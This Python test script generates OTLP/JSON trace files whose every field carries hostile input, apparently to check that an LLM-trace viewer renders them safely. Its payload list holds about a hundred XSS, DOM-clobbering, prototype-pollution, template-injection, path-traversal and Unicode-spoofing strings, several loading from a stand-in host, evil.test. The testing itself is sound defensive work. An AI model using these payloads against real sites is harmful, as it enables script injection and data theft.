"""Traces whose every text is an attack.

    python3 Tests/Browser/hostile_trace.py FOLDER

writes one OTLP/JSON file a page into FOLDER. With as many traces as payloads, each payload stands once in each kind of
field: a trace begins one payload further than the one before it.
"""

import json
import sys
from pathlib import Path

from places import shared

PUBLIC = "security/xss/payloads.jsonl"
START = 1_795_435_256_000_000_000
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="

# `hit` is a function that tells on its caller; evil.test never resolves, so that a request shows as one.
PAYLOADS = [
    "<script>hit(1)</script>",
    "</script><script>hit(2)</script>",
    "<img src=x onerror=hit(3)>",
    "\"><img src=x onerror=hit(4)>",
    "' onmouseover='hit(5)' x='",
    "\" autofocus onfocus=\"hit(6)\" x=\"",
    "` onclick=hit(7) `",
    "<svg onload=hit(8)>",
    "<svg><script xlink:href=//evil.test/9></script></svg>",
    "<svg><animate onbegin=hit(10) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit(11)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit(12)</script>'></foreignObject></svg>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit(13)&gt;\">",
    "<details open ontoggle=hit(14)>",
    "<body onload=hit(15)>",
    "<input autofocus onfocus=hit(16)>",
    "<video><source onerror=hit(17)></video>",
    "<style>@import '//evil.test/18';*{background:url(//evil.test/18)}</style>",
    "</style><script>hit(19)</script>",
    "</title><script>hit(20)</script>",
    "</textarea></noscript><script>hit(21)</script>",
    "</pre></code></details></article></section></div><script>hit(22)</script>",
    "</text></svg><script>hit(23)</script>",
    "<iframe src=javascript:parent.hit(24)></iframe>",
    "<object data=//evil.test/25></object><embed src=//evil.test/25>",
    "<link rel=stylesheet href=//evil.test/26><link rel=dns-prefetch href=//evil.test/26>",
    "<meta http-equiv=refresh content='0;url=//evil.test/27'>",
    "<base href=//evil.test/28/>",
    "<form action=//evil.test/29><button autofocus>x</button></form>",
    "<template><script>hit(30)</script></template><x is=y></x>",
    "<a id=getElementById><a id=getElementById name=querySelector href=clobbered:31>x</a>",
    "<img name=documentElement><form id=body><input name=append></form>",
    "<!--", "-->", "]]>", "<![CDATA[<script>hit(35)</script>]]>", "<?xml-stylesheet href='//evil.test/36'?>",
    "<!DOCTYPE html><script>hit(37)</script>",
    "javascript:hit(38)", "JaVaScRiPt\t:hit(39)", "java\nscript:hit(40)", "\x01javascript:hit(41)",
    "vbscript:hit(42)", "data:text/html,<script>hit(43)</script>", "file:///etc/passwd", "smb://evil.test/45",
    "//evil.test/46", "\\\\evil.test\\47", "blob:null/48", "feed:javascript:hit(49)", "view-source:about:blank",
    "[x](javascript:hit(51))", "[x](&#106;avascript:hit(52) \"y\")", "![x](//evil.test/53.png)",
    "![x](http://evil.test/54.png)", "<javascript:hit(55)>", "[x]: javascript:hit(56)\n\n[x] [x][x]",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](http://evil.test/58\" onclick=hit(58) \")",
    "![x](data:image/svg+xml;base64," + SVG + ")", "![x\" onerror=\"hit(60)](data:image/png;base64," + PIXEL + ")",
    "| <b onclick=hit(61)> | `</code><script>hit(61)</script>` |\n|---|---|\n| ![](//evil.test/61) | <//evil.test/61> |",
    "```\"><script>hit(62)</script>\n</code></pre><script>hit(62)</script>\n```",
    "[^1]\n\n[^1]: <img src=x onerror=hit(63)>", "&lt;script&gt;hit(64)&lt;/script&gt;&#60;script&#62;hit(64)&#60;/script&#62;",
    "&quot;&gt;&lt;img src=x onerror=hit(65)&gt;", "\\u003cscript\\u003ehit(66)\\u003c/script\\u003e",
    "%3Cscript%3Ehit(67)%3C/script%3E", "${hit(68)}", "{{constructor.constructor('hit(69)')()}}", "{{raw x}}{{end}}",
    "';hit(71);//", "\";hit(72);//", "\\\";hit(73);//", "*/hit(74)/*", "url(//evil.test/75)", "</style x", "expression(hit(77))",
    "\u2028hit(78)\u2029", "abc\u202egnp.exe\u202c", "\u2066<b>\u2069", "pay\u200bpal\u200d\ufeff\u00ad", "\U000e0061\U000e0062",
    "\x1b]8;;http://evil.test/83\x07x\x1b]8;;\x07\x1b[2J", "\x00<script>hit(84)</script>", "\ufffe\uffff", "a" * 600,
    "𝔘𝔫𝔦" * 60, "e" + "\u0301" * 100,
    "__proto__", "constructor", "prototype", "getElementById", "toString", "hasOwnProperty", "s-1", "traces", "redactions",
    "#", "..", "../../etc/passwd", "?v=graph&q=x", "#s-1/raw?q=%00", "%", "%E0%A4%A", " ", "",
    "onerror", "style", "http-equiv", "kind:llm", "is:error", "(a+)+$", "[", ":has(*)",
]


class Source:
    """Hands out payloads in turn."""

    def __init__(self, payloads, start=0):
        self.payloads = payloads
        self.place = start

    def __call__(self):
        payload = self.payloads[self.place % len(self.payloads)]
        self.place += 1
        return payload


def value(thing):
    if isinstance(thing, bool):
        return {"boolValue": thing}
    if isinstance(thing, int):
        return {"intValue": str(thing)}
    if isinstance(thing, float):
        return {"doubleValue": thing}
    if isinstance(thing, list):
        return {"arrayValue": {"values": [value(element) for element in thing]}}
    if isinstance(thing, dict):
        return {"kvlistValue": {"values": attributes(thing)}}
    return {"stringValue": thing}


def attributes(pairs):
    return [{"key": name, "value": value(thing)} for name, thing in pairs.items()]


class Trace:
    """One trace; the first span is the root of all others."""

    def __init__(self, p, trace_id):
        self.p = p
        self.trace_id = trace_id
        self.spans = []

    def add(self, pairs, *, name=None, span_id=None, parent=True, **more):
        number = len(self.spans)
        span = {
            "traceId": self.trace_id, "spanId": f"{number + 1:016x}" if span_id is None else span_id,
            "name": self.p() if name is None else name, "kind": 1,
            "startTimeUnixNano": str(START + number * 10_000_000),
            "endTimeUnixNano": str(START + (number * 10 + 100) * 1_000_000),
            "attributes": attributes(pairs), **more,
        }
        if parent and self.spans:
            span["parentSpanId"] = self.spans[0]["spanId"]
        self.spans.append(span)
        return span

    def batch(self):
        p = self.p
        return {
            "resource": {"attributes": attributes({"service.name": p(), "service.version": p(), p(): p()})},
            "schemaUrl": p(),
            "scopeSpans": [{
                "scope": {"name": p(), "version": p(), "attributes": attributes({p(): p()})}, "schemaUrl": p(),
                "spans": self.spans,
            }],
        }


def in_markdown(p):
    """One text with payloads where Markdown reads them in different ways."""
    return (
        f"# {p()}\n\nfirst {p()} second\n\n- {p()}\n\n> {p()}\n\n`{p()}` [label]({p()}) ![image]({p()}) <{p()}>\n\n"
        f"```{p()}\n{p()}\n```\n\n[one]: {p()}\n\n[one] **{p()}**"
    )


def chat_parts(p):
    return [
        {"type": "text", "content": in_markdown(p)},
        {"type": "reasoning", "content": in_markdown(p)},
        {"type": "tool_call", "id": p(), "name": p(), "arguments": {p(): p(), "nested": [{p(): p()}]}},
        {"type": "tool_call", "id": p(), "name": p(), "arguments": p()},
        {"type": "tool_call_response", "id": p(), "response": p(), "result": {p(): p()}},
        {"type": "blob", "modality": "image", "mime_type": p(), "content": PIXEL},
        {"type": "blob", "modality": "image", "mime_type": "image/png", "content": p()},
        {"type": "blob", "modality": "image", "mime_type": "image/svg+xml", "content": SVG},
        {"type": "image_url", "image_url": {"url": p()}},
        {"type": "image_url", "image_url": {"url": "data:image/svg+xml;base64," + SVG}},
        {"type": "image_url", "image_url": {"url": "data:text/html;base64," + SVG}},
        {"type": "image_url", "image_url": {"url": "data:image/png," + p()}},
        {"type": "image_url", "image_url": {"url": "data:image/png;base64," + p()}},
        {"type": "image_url", "image_url": {"url": "http://evil.test/a.png?" + p()}},
        {"type": "uri", "modality": "image", "mime_type": "image/png", "uri": p()},
        {"type": "file", "file_id": p(), "mime_type": p()},
        {"type": p(), p(): p(), "content": p()},
    ]


def genai_call(trace):
    p = trace.p
    return {
        "gen_ai.operation.name": "chat", "gen_ai.provider.name": p(), "gen_ai.request.model": p(),
        "gen_ai.response.model": p(), "gen_ai.response.id": p(), "gen_ai.conversation.id": p(), "user.id": p(),
        "gen_ai.request.temperature": p(), "gen_ai.request." + p(): p(), "gen_ai.usage.input_tokens": p(),
        "gen_ai.usage.output_tokens": 12, "gen_ai.usage.cost": p(),
        "gen_ai.response.finish_reasons": [p(), p()],
        "gen_ai.system_instructions": json.dumps([{"type": "text", "content": in_markdown(p)}]),
        "gen_ai.tool.definitions": json.dumps([{
            "type": "function", "name": p(), "description": p(),
            "parameters": {"type": "object", "properties": {p(): {"type": p(), "description": p()}}}}]),
        "gen_ai.input.messages": json.dumps([
            {"role": "system", "parts": [{"type": "text", "content": p()}]},
            {"role": "user", "name": p(), "parts": [{"type": "text", "content": in_markdown(p)}]},
            {"role": p(), "parts": [{"type": "text", "content": p()}]},
            {"role": "tool", "parts": [{"type": "tool_call_response", "id": p(), "name": p(), "response": p()}]},
        ]),
        "gen_ai.output.messages": json.dumps([
            {"role": "assistant", "parts": chat_parts(p), "finish_reason": p()}]),
    }


def openinference_call(trace):
    p = trace.p
    message, call = "llm.input_messages.0.message.", "llm.output_messages.0.message.tool_calls.0.tool_call."
    return {
        "openinference.span.kind": "LLM", "llm.provider": p(), "llm.model_name": p(),
        "llm.invocation_parameters": json.dumps({p(): p(), "model": p()}), "metadata": json.dumps({p(): p()}),
        "session.id": p(), "tag.tags": [p(), p()], "llm.prompt_template.template": in_markdown(p),
        "llm.prompt_template.version": p(), "llm.prompt_template.variables": json.dumps({p(): p()}),
        message + "role": p(), message + "content": in_markdown(p),
        "llm.input_messages.1.message.role": "user",
        "llm.input_messages.1.message.contents.0.message_content.type": "image",
        "llm.input_messages.1.message.contents.0.message_content.image.image.url": p(),
        "llm.output_messages.0.message.role": "assistant", "llm.output_messages.0.message.content": p(),
        call + "id": p(), call + "function.name": p(), call + "function.arguments": p(),
        "llm.tools.0.tool.json_schema": p(), "input.value": p(), "input.mime_type": p(), "output.value": p(),
        "llm.token_count.prompt": 10, "llm.token_count.completion": 4, "llm.token_count.total": p(),
    }


def documents(p, prefix):
    pairs = {}
    for rank in range(2):
        document = f"{prefix}.{rank}.document."
        pairs |= {
            document + "id": p(), document + "content": in_markdown(p) if rank else p(),
            document + "score": p() if rank else 0.5,
            document + "metadata": json.dumps({"title": p(), "source": p(), p(): p()}),
        }
    return pairs


def fill(trace, root_id, name=None):
    """Puts a payload into every kind of field of a trace, whose root gets that id."""
    p = trace.p
    trace.add(
        {"openinference.span.kind": "AGENT", "agent.name": p(), "input.value": in_markdown(p), "output.value": p(), p(): p()},
        span_id=root_id, name=name, parent=False, traceState=p())
    trace.add(genai_call(trace))
    trace.add(openinference_call(trace))
    trace.add({"openinference.span.kind": "RETRIEVER", "input.value": p(), **documents(p, "retrieval.documents")})
    trace.add({
        "openinference.span.kind": "RERANKER", "reranker.query": p(), "reranker.model_name": p(),
        **documents(p, "reranker.input_documents"), **documents(p, "reranker.output_documents")})
    trace.add({
        "gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": p(), "gen_ai.tool.call.id": p(),
        "gen_ai.tool.description": p(), "gen_ai.tool.call.arguments": json.dumps({p(): p()}),
        "gen_ai.tool.call.result": in_markdown(p)}, status={"code": 2, "message": p()})
    trace.add({
        "type": "retrieval", "query": p(), "titles": [p(), p()], "documents": [p(), p()], "scores": [p(), 0.4],
        "document_ids": [p(), p()], "embedding_model": p()})
    trace.add({
        "type": "prompt", "template": p(), "template_name": p(), "template_version": p(), "prompt": in_markdown(p),
        "variables": json.dumps({p(): p()}), "system_tokens": 4, p() + "_tokens": 5, "system_prompt": p()})
    trace.add({
        "type": "llm", "model": p(), "provider": p(), "messages": json.dumps([{"role": p(), "content": p()}]),
        "response": p(), "finish_reason": p(), "cost": p(), "temperature": p()})
    trace.add({"openinference.span.kind": "EMBEDDING", "embedding.model_name": p(),
               "embedding.embeddings.0.embedding.text": p(), "embedding.embeddings.0.embedding.vector": p()})
    trace.add({"type": "tool", "tool_name": p(), "arguments": p(), "result": p(), "is_error": True, "error.message": p()})
    trace.add({"openinference.span.kind": p(), "gen_ai.operation.name": p(), "type": p(), "db.statement": p(),
               "http.url": p(), "nested": {p(): {p(): [p(), 1, None or p()]}}}, kind=p(), traceState=p())
    trace.add(
        {p(): p()}, span_id=p() + "!", status={"code": p(), "message": p()}, flags=p(),
        events=[
            {"name": "exception", "timeUnixNano": str(START + 1), "attributes": attributes({
                "exception.type": p(), "exception.message": p(), "exception.stacktrace": p()})},
            {"name": p(), "timeUnixNano": p(), "attributes": attributes({p(): p()})},
            {"name": "gen_ai.user.message", "attributes": attributes({"content": p(), "role": p()})},
        ],
        links=[{"traceId": p(), "spanId": p(), "traceState": p(), "attributes": attributes({p(): p()})}])
    orphan = trace.add({"openinference.span.kind": "CHAIN", "input.value": p(), "output.value": p()}, span_id=p() + "?")
    orphan["parentSpanId"] = p()


def traces(payloads, count, stride=1):
    """That many traces; each begins `stride` payloads further than the one before."""
    batches = []
    for number in range(count):
        p = Source(payloads, number * stride)
        trace_id = f"{number}{p()}"
        # Every second trace has a true id: a foreign one draws remarks that could hide something.
        trace = Trace(p, f"{number + 1:032x}" if number % 2 else trace_id)
        fill(trace, root_id=p() or None)
        batches.append(trace.batch())
    return {"resourceSpans": batches}


def clashes():
    """One trace whose span ids are names that scripts trust, and collide."""
    p = Source(["text"])
    trace = Trace(p, "constructor")
    names = [
        "__proto__", "constructor", "prototype", "getElementById", "querySelector", "s-1\"><b>", "traces", "redactions",
        "toString", "a b", "a%20b", "a/b", "a?b", "a#b", "s-", "S-", "ä", "a\u0308", " ", "i-llm",
    ]
    for name in [*names, *names[:6], "S-", "__PROTO__"]:
        trace.add({"type": "tool", "tool_name": name, "arguments": json.dumps({"__proto__": {"hit": 1}, name: name})},
                  span_id=name, name=name)
    for span in trace.spans[1:8]:
        span["parentSpanId"] = span["spanId"]
    trace.spans[8]["parentSpanId"], trace.spans[9]["parentSpanId"] = names[9], names[8]
    return {"resourceSpans": [trace.batch()]}


def public_payloads():
    """The collected payloads, where they stand beside the checkout; see `shared/security/README.md` there."""
    lines = shared(PUBLIC)
    return [json.loads(line)["payload"] for line in lines.read_text(encoding="utf-8").splitlines()] if lines else []


def files():
    """Every hostile input: a name and an OTLP/JSON document."""
    count = len(PAYLOADS)
    found = {"clashes": clashes(), "single": traces(PAYLOADS, 1)}
    for part in range(4):
        # Each page has every fourth trace, so that it holds all payloads and the four hold them in every field.
        found[f"inline-{part}"] = traces(PAYLOADS[part:] + PAYLOADS[:part], (count - part + 3) // 4, stride=4)
    public = public_payloads()
    for part, start in enumerate(range(0, len(public), 560)):
        chosen = public[start:start + 560]
        found[f"public-{part}"] = traces(chosen, -(-len(chosen) // 100), stride=100)
    return found


def write(folder):
    """Writes every input into the folder and returns the paths."""
    paths = []
    for name, document in files().items():
        path = Path(folder) / f"{name}.json"
        path.write_text(json.dumps(document), encoding="utf-8")
        paths.append(path)
    return paths


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: hostile_trace.py FOLDER")
    for written in write(sys.argv[1]):
        print(written)
